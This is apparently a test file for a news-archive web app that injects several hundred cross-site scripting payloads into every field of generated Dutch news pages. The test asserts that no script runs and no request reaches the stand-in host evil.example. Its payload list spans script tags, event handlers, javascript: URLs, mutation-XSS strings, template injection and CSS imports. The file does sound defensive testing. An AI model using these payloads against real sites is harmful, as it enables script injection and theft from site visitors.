// Pages that want to run something in their reader: payloads in every field that a page controls, read into an archive
// and looked at in Chromium. Nothing may run, nothing may be requested, no address may be a script.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { test } from 'node:test';
import { Site, repository } from './support/site.mjs';

const scripts = ['alert(1)', 'fetch("https://evil.example/")', 'document.title="taken"'];
const shapes = [
  (js) => `<script>${js}</script>`,
  (js) => `"><script>${js}</script>`,
  (js) => `'><img src=x onerror=${JSON.stringify(js)}>`,
  (js) => `<img src="https://evil.example/p.png" onload='${js}'>`,
  (js) => `<svg onload='${js}'>`,
  (js) => `<svg><script href="https://evil.example/s.js"/></svg>`,
  (js) => `</title></textarea></style><script>${js}</script>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<math><mtext></form><form><mglyph><style></math><img src onerror='${js}'>`,
  (js) => `<details open ontoggle='${js}'>x</details>`,
  (js) => `<input autofocus onfocus='${js}'>`,
  (js) => `<style>@import "https://evil.example/c.css"; body{background:url(https://evil.example/b)}</style>`,
  (js) => `<link rel=stylesheet href=https://evil.example/l.css>`,
  (js) => `<base href="https://evil.example/">`,
  (js) => `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  (js) => `<object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
  (js) => `<video src="https://evil.example/v" onerror='${js}'></video>`,
  (js) => `{@html "<script>${js}</script>"}{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}} <!--><script>${js}</script>-->`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt; \\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js) => `<noscript><p title="</noscript><img src=x onerror='${js}'>">`,
  (js) => `<template><script>${js}</script></template><slot onslotchange='${js}'></slot>`,
  (js) => `\u202e<script>${js}</script>\u2028`,
];
const payloads = scripts.flatMap((js) => shapes.map((shape) => shape(js)));

const escape = (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

// A news page whose every field is a payload, as text of the page and as a value of its JSON-LD.
function pageOf(take) {
  const data = {
    '@context': 'https://schema.org', '@type': 'NewsArticle', headline: take(), description: take(), articleSection: take(),
    keywords: [take(), take(), take()], datePublished: '2024-01-02T03:04:05+01:00',
    author: [{ '@type': 'Person', name: `Ann ${take()}` }, { '@type': 'Person', name: `Bo ${take()}` }],
    publisher: { '@type': 'Organization', name: `De Krant ${take()}` },
    image: [`https://evil.example/${encodeURIComponent(take())}`],
  };
  const json = JSON.stringify(data).replaceAll('</', '<\\/').replaceAll('<!--', '<\\u0021--');
  const paragraph = () => `<p>“Wij zeggen ${escape(take())} en niets anders”, zei Ann Peeters woensdag in Gent over de brug
    ${escape(take())} die volgens de burgemeester in september dicht gaat voor het verkeer.</p>`;
  return `<!doctype html><html lang="nl"><head><meta charset="utf-8"><title>${escape(data.headline)}</title>
    <script type="application/ld+json">${json}</script></head><body><article><h1>${escape(data.headline)}</h1>
    <p class="intro">${escape(data.description)}</p>${Array.from({ length: 7 }, paragraph).join('\n')}
    <figure><img src="x.jpg" alt="${escape(take())}"><figcaption>${escape(take())}</figcaption></figure>
    <div class="embed-placeholder cookie-consent">Je kan deze inhoud niet bekijken ${escape(take())}. Aanvaard de cookies van sociale media.</div>
    <h2>${escape(take())}</h2><blockquote>${escape(take())}</blockquote><ul><li>${escape(take())}</li><li>${escape(take())}</li></ul>
    <table><tr><td>${escape(take())}</td><td>${escape(take())}</td></tr></table><pre>${escape(take())}</pre>
    <p><a href="javascript:alert(1)">KIJK. ${escape(take())}</a></p>${paragraph()}</article></body></html>`;
}

test('injection: of hundreds of payloads in every field nothing runs and nothing is asked for', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'kroniek-injection-'));
  let placed = 0;
  const take = () => payloads[placed++ % payloads.length];
  const pages = 11;
  for (let page = 0; page < pages; ++page) writeFileSync(join(folder, `${page}.html`), pageOf(take));
  assert.ok(placed >= 300, `${placed} payloads`);
  const site = await Site.open([folder]);
  try {
    const look = async (page) => {
      assert.equal(await page.evaluate(() => [...document.querySelectorAll('a, form, iframe, img, object, embed, base, link')]
        .some((each) => /^\s*javascript:/i.test(each.getAttribute('href') ?? each.getAttribute('src') ?? each.getAttribute('action') ?? ''))), false);
      assert.equal(await page.locator('main').locator('img, iframe, object, embed, video, script, style, base, link, meta').count(), 0);
      assert.notEqual(await page.title(), 'taken');
    };
    const { hits } = await site.json('/api/search?limit=50');
    assert.equal(hits.length, pages);
    assert.ok(hits.some((hit) => /<|alert/.test(hit.title)), 'the payloads are in the archive as they stand');
    for (const path of ['/', '/?q=brug', '/quotes', '/events', '/stories?least=1', '/entities', '/timeline', '/places', ...hits.map((hit) => `/article/${hit.version}`)]) {
      await site.visit(path, look);
    }
    await site.visit(`/article/${hits[0].version}`, look, { waits: false, javaScriptEnabled: true });
    for (const payload of payloads.slice(0, 8)) await site.visit(`/?q=${encodeURIComponent(payload)}#${encodeURIComponent(payload)}`, look, { expected: (text) => text.includes('400'), waits: false });
  } finally {
    await site.close();
    rmSync(folder, { recursive: true, force: true });
  }
});

// The 320 payloads of tests/server/injection_test.py, each in every field of a page of its own.
test('injection: 320 payloads, each in every field: dossiers opened from disk, and articles, run nothing', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'kroniek-injection-'));
  const pages = join(folder, 'pages');
  execFileSync('python3', ['-B', '-c', `
import sys
from pathlib import Path
sys.path.insert(0, 'tests/server')
from injection_test import PAYLOADS, page_of
folder = Path(sys.argv[1])
folder.mkdir()
for number, payload in enumerate(PAYLOADS):
    (folder / f'{number:04}.html').write_text(page_of(number, payload), encoding='utf-8')
`, pages], { cwd: repository });
  const site = await Site.open([pages]);
  try {
    const versions = [];
    for (let page = ''; page !== null;) {
      const answer = await site.json(`/api/search?limit=100&page=${page}`);
      versions.push(...answer.hits.map((hit) => hit.version));
      page = answer.next;
    }
    assert.ok(versions.length >= 300, `${versions.length} articles`);
    const context = await site.browser.newContext();
    const page = await context.newPage();
    const wrong = [];
    let path = '';
    page.on('dialog', (dialog) => {
      wrong.push(`a dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('request', (request) => request.url() !== path && wrong.push(`a request to ${request.url()}`));
    page.on('console', (message) => wrong.push(`on the console: ${message.text()}`));
    for (let first = 0; first < versions.length; first += 100) {
      const asked = new URLSearchParams({ versions: versions.slice(first, first + 100).join(','), format: 'dossier', title: payloads[first % payloads.length] });
      const file = join(folder, `${first}.html`);
      writeFileSync(file, Buffer.from(await (await fetch(`${site.address}/api/export?${asked}`)).arrayBuffer()));
      path = pathToFileURL(file).href;
      await page.goto(path);
      const title = await page.title();
      // What waits for a reader to do something: everything is focused and clicked once.
      await page.evaluate(() => {
        for (const each of document.querySelectorAll('article *, section *')) {
          each.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
          if (each.tagName !== 'A') each.click?.();
          each.focus?.();
        }
      });
      assert.equal(await page.title(), title);
      assert.equal(await page.locator('article').count(), Math.min(100, versions.length - first));
      assert.equal(await page.locator('script, img, iframe, object, embed, video, audio, form, base, link, input, button').count(), 0);
      assert.equal(await page.evaluate(() => [...document.querySelectorAll('*')].some((each) => [...each.attributes].some((one) => one.name.startsWith('on')))), false);
      assert.equal(await page.evaluate(() => [...document.querySelectorAll('[href]')].some((each) => !/^(#|https?:)/.test(each.getAttribute('href')))), false);
    }
    await context.close();
    assert.deepEqual(wrong, []);
    // In the reader, from one to the next as a reader goes; KRONIEK_PAYLOADS=all: each of them.
    const step = process.env.KRONIEK_PAYLOADS === 'all' ? 1 : 16;
    await site.visit('/', async (page) => {
      for (let at = 0; at < versions.length; at += step) {
        await page.evaluate((version) => {
          history.pushState(null, '', `/article/${version}`);
          dispatchEvent(new PopStateEvent('popstate'));
        }, versions[at]);
        await page.waitForFunction((version) => document.querySelector(`.export a[href*="versions=${version}"]`), versions[at]);
        assert.equal(await page.locator('main').locator('img, iframe, object, embed, video, script, style, base, link, meta').count(), 0);
      }
    });
  } finally {
    await site.close();
    rmSync(folder, { recursive: true, force: true });
  }
});
